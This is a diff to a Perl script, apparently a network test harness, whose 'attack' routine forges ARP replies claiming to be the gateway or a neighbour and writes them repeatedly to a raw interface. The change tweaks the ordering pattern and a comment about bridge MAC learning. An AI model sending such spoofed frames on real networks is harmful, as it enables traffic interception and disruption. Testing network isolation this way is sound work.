@@ -77,9 +77,9 @@ sub attack {
         'arp-i-am-the-gateway' => sub { ethernet $all, $own, 0x0806, arp(2, $own, $gw, $all, $gw, $_[0]) },
         'arp-i-am-the-neighbour' => sub { ethernet $gw_mac, $own, 0x0806, arp(2, $own, $peer, $gw_mac, $gw, $_[0]) },
     );
-    # Last what may lead the others astray.
+    # Last what may lead the others astray: the bridge sends to a MAC where it saw it last.
     for my $lies (0, 1) {
-        my @names = grep { /^arp-i-am/ == $lies } sort keys %frames;
+        my @names = grep { /^(?:arp-i-am|neighbours)/ == $lies } sort keys %frames;
         for my $round (1 .. 3) {
             syswrite $wire, $frames{$_}->("<$_>" . "\0" x 32) or die "$_: $!" for @names;
             # The host takes no second answer for an address within its locktime, 1 s (arp(7)).
